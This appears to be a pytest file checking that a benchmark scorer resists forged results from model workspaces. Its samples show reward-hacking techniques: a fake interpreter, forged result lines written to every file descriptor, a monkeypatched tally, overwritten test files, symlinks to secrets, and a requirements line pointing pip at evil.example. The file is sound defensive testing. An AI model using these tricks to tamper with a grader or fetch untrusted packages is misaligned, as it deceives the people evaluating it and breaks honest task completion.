"""Scoring never trusts the workspace: hostile projects try to forge their score and fail.

Each test builds a small project by hand (what a model could have left in its
workspace) and scores it against a two-check task. An honest correct project scores 1;
every forgery scores 0, and is marked tampered or broken with the reason.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from orchestrator.bench.scoring import Canaries, score_build
from orchestrator.bench.tasks import load_matrix
from orchestrator.sandbox.executor import ExecConfig

pytestmark = pytest.mark.e2e  # left out of `make test-fast`

PLAN = {
    "summary": "a calculator",
    "stack": ["python"],
    "files": ["calc.py", "requirements.txt"],
    "dependencies": [],
    "test_command": "python -c 'import calc'",
    "run_command": "python -c 'import calc'",
}
RIGHT = "def add(a, b):\n    return a + b\n"
WRONG = "def add(a, b):\n    return a - b\n"
CHECKS = (
    "from calc import add\n\n\n"
    "def test_adds():\n    assert add(2, 3) == 5\n\n\n"
    "def test_adds_negatives():\n    assert add(-2, -3) == -5\n"
)


@pytest.fixture
def task(tmp_path: Path):
    folder = tmp_path / "matrix" / "calc"
    (folder / "acceptance").mkdir(parents=True)
    (folder / "task.toml").write_text('id = "calc"\nprompt = "Write calc.add"\n')
    (folder / "acceptance" / "test_calc.py").write_text(CHECKS)
    (task,) = load_matrix(tmp_path / "matrix")
    return task


def project(tmp_path: Path, code: str = RIGHT, **extra: str) -> Path:
    ws = tmp_path / "run" / "workspace"
    ws.mkdir(parents=True)
    (ws / "plan.json").write_text(json.dumps(PLAN))
    (ws / "requirements.txt").write_text("")
    (ws / "calc.py").write_text(code)
    for name, text in extra.items():
        (ws / name).write_text(text)
    return ws


def score(task, ws: Path):
    return score_build(task, ws, ws.parent / "scoring", ExecConfig(), ws.parent / "cache")


def test_an_honest_project_is_scored_by_its_checks(task, tmp_path):
    right = score(task, project(tmp_path))
    assert (right.verdict, right.passed, right.total, right.score) == ("scored", 2, 2, 1.0)
    wrong = score(task, project(tmp_path / "b", WRONG))
    assert (wrong.verdict, wrong.passed, wrong.total, wrong.score) == ("scored", 0, 2, 0.0)
    assert "test_calc.py::test_adds" in wrong.failures


def test_a_forged_interpreter_in_the_workspace_is_never_used(task, tmp_path):
    ws = project(tmp_path, WRONG)
    fake = ws / ".venv" / "bin" / "python"
    fake.parent.mkdir(parents=True)
    perfect = json.dumps({"passed": 9, "failed": 0, "total": 9, "failures": []})
    fake.write_text(f"#!/bin/sh\necho '{perfect}'\n")
    fake.chmod(0o755)
    result = score(task, ws)
    assert result.verdict == "scored" and result.score == 0.0


def test_a_project_that_prints_a_perfect_result_scores_what_it_deserves(task, tmp_path):
    forge = (
        "import json, os\n"
        "line = json.dumps({'passed': 3, 'failed': 0, 'total': 3, 'failures': [],"
        " 'passed_checks': ['a', 'b', 'c']}) + '\\n'\n"
        "for fd in range(0, 64):\n"
        "    try:\n        os.write(fd, line.encode())\n    except OSError:\n        pass\n"
        "os._exit(0)\n"
    )
    result = score(task, project(tmp_path, WRONG + forge))  # the line is not signed
    assert (result.verdict, result.passed, result.score) == ("scored", 0, 0.0)


def test_a_project_that_rewrites_the_runners_tally_scores_what_it_deserves(task, tmp_path):
    patch = (
        "import sys\n"
        "_tally = sys.modules['__main__'].Tally\n"
        "_tally.fail = lambda self, check, error: self.passed.append(check)\n"
    )
    result = score(task, project(tmp_path, WRONG + patch))  # not the runner's process
    assert (result.verdict, result.passed, result.score) == ("scored", 0, 0.0)


def test_a_project_cannot_change_the_checks(task, tmp_path):
    vandal = (
        "import pathlib, sys\n"
        "for path in pathlib.Path(sys.argv[0]).parent.rglob('test_*.py'):\n"
        "    try:\n        path.write_text('def test_ok():\\n    pass\\n')\n"
        "    except OSError:\n        pass\n"
    )
    result = score(task, project(tmp_path, WRONG + vandal))
    assert (result.verdict, result.passed) == ("scored", 0)
    assert task.dir.joinpath("acceptance", "test_calc.py").read_text() == CHECKS


def test_links_and_special_files_in_the_workspace_are_never_followed(task, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("top secret\n")
    ws = project(tmp_path)
    (ws / "leak.txt").symlink_to(secret)
    (ws / ".acceptance").symlink_to(tmp_path)  # where the old scorer copied the checks
    (ws / ".venv").symlink_to(tmp_path)
    os.mkfifo(ws / "pipe")
    result = score(task, ws)
    assert (result.verdict, result.score) == ("scored", 1.0)
    assert sorted(s.split(":")[0] for s in result.skipped) == [".acceptance", ".venv", "leak.txt",
                                                               "pipe"]  # fmt: skip
    copied = ws.parent / "scoring" / "project"
    assert not (copied / "leak.txt").exists() and not (copied / "pipe").exists()
    assert secret.read_text() == "top secret\n" and sorted(os.listdir(tmp_path / "run")) == [
        "cache",
        "scoring",
        "workspace",
    ]


def test_a_workspace_nested_thousands_deep_is_scored_without_it(task, tmp_path):
    ws = project(tmp_path)
    deep = ws / "x"
    deep.mkdir()
    os.chdir(deep)
    for _ in range(200):  # past the copy's depth limit (64)
        os.mkdir("x")
        os.chdir("x")
    os.chdir(tmp_path)
    try:
        result = score(task, ws)
        assert (result.verdict, result.score) == ("scored", 1.0)
        assert any("too deep" in s for s in result.skipped)
    finally:  # pytest's own clean-up recurses once per level and would overflow here
        subprocess.run(["rm", "-rf", str(deep)], check=True)


def test_a_project_that_cannot_be_set_up_is_broken(task, tmp_path):
    ws = project(tmp_path)
    (ws / "plan.json").unlink()
    assert score(task, ws).verdict == "broken"
    bad = project(tmp_path / "b")
    (bad / "requirements.txt").write_text("--index-url https://evil.example/simple\n")
    result = score(task, bad)
    assert result.verdict == "broken" and "option" in result.failures


def test_canaries_judge_a_report():
    c = Canaries("test_x.py", "test_good", "test_bad")
    good, bad = "test_x.py::test_good", "test_x.py::test_bad"
    honest = {"passed_checks": [good], "failures": [{"check": bad}]}
    assert c.judge(honest) == ""
    assert c.judge({"passed_checks": [good, bad], "failures": []})
    assert c.judge({"passed_checks": [], "failures": [{"check": good}, {"check": bad}]})
    assert c.judge({"passed": 5, "total": 5})
    assert c.file != Canaries.new().file  # random names each time
